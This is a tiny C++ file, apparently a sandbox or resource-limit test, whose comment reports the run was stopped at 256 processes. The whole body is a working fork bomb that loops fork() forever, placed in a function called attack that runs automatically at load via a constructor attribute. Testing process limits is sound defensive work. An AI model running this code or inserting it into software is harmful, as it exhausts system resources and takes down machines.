// Starts processes until there can be no more, which all go on.
// report: It had 256 processes and threads, more than which there cannot be, and was ended.
#include <unistd.h>

namespace {
[[gnu::constructor]] void attack() {
  for (;;) (void)fork();
}
}  // namespace
